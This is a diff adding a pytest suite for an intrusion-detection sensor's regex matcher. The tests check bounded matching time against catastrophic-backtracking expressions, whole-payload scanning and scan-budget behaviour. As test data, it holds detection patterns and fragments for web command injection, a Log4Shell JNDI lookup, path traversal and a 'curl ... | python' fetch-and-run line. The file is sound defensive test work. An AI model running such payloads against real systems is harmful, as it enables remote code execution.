@@ -1,0 +1,164 @@
+"""Deciding in bounded time: no payload stalls it, and nothing is missed on the way."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import pytest
+
+from sensor.model import Match, Rule
+from sensor.rules import scan
+from sensor.rules.load import load_rules
+from sensor.rules.matcher import Matcher
+from sensor.rules.scan import SLICE
+
+REFERENCE = Path(__file__).parents[3] / "shared" / "reference" / "fp-patterns"
+LARGEST = 65_535
+BLANK = b"\r\n\r\n"
+
+STALLING = [
+    r"GET [^\r\n]+\?.*?=.*?(evaluate|run_shell|launch)(\(|%28)",
+    r"POST [\s\S]*?\r\n\r\n[\s\S]*?\?.*?=.*?(evaluate|run_shell|launch)(\(|%28)",
+    r"\x06[\x01-\x09]*\x06[\x01-\x09]?.*\x06[\x01-\x04][\x01\x03].*\x06[\x01-\x09]?[\x01\x04]",
+    r"\${((\${(:|lower|upper):)*[-\{\}jndi]+)+:",
+    r"(x+x+)+y",
+    r"(a|aa)+$",
+    r"(\w+\s?)+:$",
+    r"(.*)(.*)(.*)(.*)(.*)[^a]{3}zq",
+    r"(a|b)*a(a|b){12}c",
+    r"([ab]*c){10}[ab]*d",
+    r"a[^\n]{0,400}b[^\n]{0,50}(c)",
+    r"(?:.{0,200}a){3}(b)c\b",
+    r"(foo|bar|a.*b.*c|d.*e.*f|g.*h.*i|j.*k.*l){3}z",
+]
+"""The known attacks on backtracking, and expressions that make large automata."""
+
+FILLINGS = [
+    b"a",
+    b"x",
+    b"ab",
+    b"abc",
+    b"abbbaaaa",
+    b"\x06",
+    b"\x06\x01\x03z",
+    b"j",
+    b"${",
+    b"?=evaluate",
+    b"select ",
+    b"../",
+]
+FRAMES = [
+    (b"", b""),
+    (b"GET /?x=", b" evaluate( HTTP/1.1" + BLANK),
+    (b"POST / HTTP/1.1" + BLANK, b"?=launch%28"),
+    (b"GET /${", b":ldap://x}"),
+    (b"HTTP/1.1 200 OK\r\nServer: ", BLANK + b"abcd"),
+]
+
+
+def rules(*regexes: str) -> list[Rule]:
+    """Return rules around regexes, numbered from 1."""
+    return [Rule(number, "threat", "Type", "Name", regex) for number, regex in enumerate(regexes, start=1)]
+
+
+def payloads(size: int) -> list[bytes]:
+    """Fill payloads of a size with what expressions stumble over."""
+    return [
+        head + (filling * size)[: size - len(head) - len(tail)] + tail
+        for head, tail in FRAMES
+        for filling in FILLINGS
+    ]
+
+
+def cost_ms(matcher: Matcher, payload: bytes) -> float:
+    """Return the CPU time that matching a payload takes, the best of three."""
+    costs = []
+    for _ in range(3):
+        start_ns = time.thread_time_ns()
+        matcher.match(payload, 6, 80, 5000)
+        costs.append(time.thread_time_ns() - start_ns)
+    return min(costs) / 1e6
+
+
+def check_cost(matcher: Matcher) -> None:
+    """Fail where a payload takes far too long.
+
+    The law is 5 ms; it holds with room to spare, and `bench/match.py` measures by how much. A test
+    has to pass on a slow and busy machine as well; without the bounds these payloads take seconds.
+    """
+    costs = {payload: cost_ms(matcher, payload) for size in (1_400, LARGEST) for payload in payloads(size)}
+    slowest = max(costs, key=lambda payload: costs[payload])
+    assert costs[slowest] < 50, slowest[:80]
+
+
+@pytest.mark.parametrize("regex", STALLING)
+def test_no_payload_stalls_a_rule(regex: str) -> None:
+    """One rule, whatever it is, and one packet, whatever it holds: a bounded cost."""
+    check_cost(Matcher(rules(regex)))
+
+
+def test_no_payload_stalls_many_rules() -> None:
+    """All of them at once cost no more than the budget allows."""
+    check_cost(Matcher(rules(*STALLING)))
+
+
+@pytest.mark.skipif(not REFERENCE.is_dir(), reason="ly_probe's rules are not at hand")
+def test_no_payload_stalls_ly_probes_rules() -> None:
+    """The rules that stall ly_probe itself do not stall here."""
+    check_cost(Matcher(load_rules(REFERENCE)))
+
+
+def test_log4j_behind_many_letters() -> None:
+    """A lookup hidden behind 300 letters, where backtracking engines give up, is found whole."""
+    payload = b"GET /${" + b"j" * 300 + b"ndi:ldap://x} HTTP/1.1" + BLANK
+    [match] = Matcher(rules(r"\${((\${(:|lower|upper):)*[-\{\}jndi]+)+:")).match(payload, 6, 80, 5000)
+    assert payload[match.start : match.end] == b"j" * 300 + b"ndi"
+
+
+@pytest.mark.parametrize("padding", [0, SLICE - 4, SLICE, 3 * SLICE - 2, LARGEST - 20])
+def test_long_payloads_are_seen_whole(padding: int) -> None:
+    """A hit is found wherever it stands, across the slices of a long payload, too."""
+    payload = b"." * padding + b"needle=(42)" + b"." * (LARGEST - 11 - padding)
+    [match] = Matcher(rules(r"needle=\((\d+)\)")).match(payload, 6, 80, 5000)
+    assert (match.start, match.end, match.version) == (padding + 8, padding + 10, "42")
+
+
+def test_a_spent_budget_ends_the_scan(monkeypatch: pytest.MonkeyPatch) -> None:
+    """What was seen until then counts, the rest is left out, and that is counted."""
+    monkeypatch.setattr(scan, "BUDGET_NS", 0)
+    matcher = Matcher(rules("early", "late"))
+    found = matcher.match(b"early".ljust(3 * SLICE) + b"late", 6, 80, 5000)
+    assert ([match.rule.rule_id for match in found], matcher.cut) == ([1], 1)
+
+
+def test_short_payloads_are_never_cut(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whatever the budget, a payload of an Ethernet frame is seen whole."""
+    monkeypatch.setattr(scan, "BUDGET_NS", 0)
+    matcher = Matcher(rules("early", "late"))
+    found = matcher.match(b"early".ljust(SLICE - 4) + b"late", 6, 80, 5000)
+    assert ([match.rule.rule_id for match in found], matcher.cut) == ([1, 2], 0)
+
+
+def test_a_hit_too_costly_to_locate_is_reported_all_the_same() -> None:
+    """Where the exact span would cost too much, the match names the rule and ends where the hit does."""
+    filler = b"ab" * (LARGEST // 2)
+    [match] = Matcher(rules(r"(?:a.{0,100}){5}zz(c)?.*q")).match(filler + b"zzc----q", 6, 80, 5000)
+    assert isinstance(match, Match)
+    assert match.end <= len(filler) + 8
+
+
+@pytest.mark.parametrize(
+    ("regex", "text"),
+    [
+        (r"(?s)curl.*\|\s*python", b"curl http://vader:8080/ 2>&1 | python"),
+        (r"(?s)curl.*\|\s*python", b"curl http://xxxx:8000/ 2>&1 | python"),
+        ("ab*[b-]", b" " * 15 + b"ab"),
+        ("ab*[b-]", b" _a\nCcbaC acdCCcC ab"),
+        (r"[\]-]a[^]B-D\n]{2}|ab", b"         c1_B1cb  b ab"),
+        (r"\.wr=nl:g.*?\.g$", b"\r\ngytj.x=vyohv jdqdxwukdaf.wR=Nl:g\x8cAb7rLuw\\N)1y,90wL.G"),
+    ],
+)
+def test_the_scanning_library_is_a_sound_one(regex: str, text: bytes) -> None:
+    """Vectorscan 5.4.12, which newer wheels of hyperscan hold, misses these."""
+    assert Matcher(rules(regex)).match(text, 6, 80, 5000)
